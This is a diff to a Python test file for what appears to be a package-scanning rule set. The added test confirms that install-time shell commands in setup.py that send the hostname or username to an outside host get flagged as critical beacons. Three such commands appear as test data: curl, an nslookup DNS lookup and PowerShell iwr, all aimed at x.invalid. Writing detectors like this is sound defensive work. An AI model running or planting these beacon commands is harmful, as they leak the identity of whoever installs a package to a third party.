@@ -303,3 +303,19 @@ def test_polling_a_local_daemon_after_starting_it_is_no_download() -> None:
     assert "PV-DL-002" not in ids(run(RULES, py(source, path="acme/tool/run_daemon.py")))
     remote = source.replace("'127.0.0.1'", "'203.0.113.9'")
     assert "PV-DL-002" in ids(run(RULES, py(remote, path="acme/tool/run_daemon.py")))
+
+
+def test_a_shell_command_that_puts_who_runs_it_into_an_address_is_a_beacon() -> None:
+    for command in (
+        "curl https://x.invalid/$(hostname)/$(whoami)",
+        "nslookup `whoami`.x.invalid",
+        "powershell iwr http://x.invalid/?u=%USERNAME%",
+    ):
+        source = f"import os\nos.system({command!r})\n"
+        found = run(RULES, py(source, path="setup.py", stage=Stage.INSTALL))
+        assert [(f.rule, f.severity) for f in found] == [("PV-DL-003", Severity.CRITICAL)], command
+        assert "who runs it" in found[0].message
+    for command in ("wget -O $HOME/.cache/x.tgz https://example.com/x.tgz", "echo building as $USER"):
+        source = f"import os\nos.system({command!r})\n"
+        found = run(RULES, py(source, path="setup.py", stage=Stage.INSTALL))
+        assert not [f for f in found if "who runs it" in f.message], command
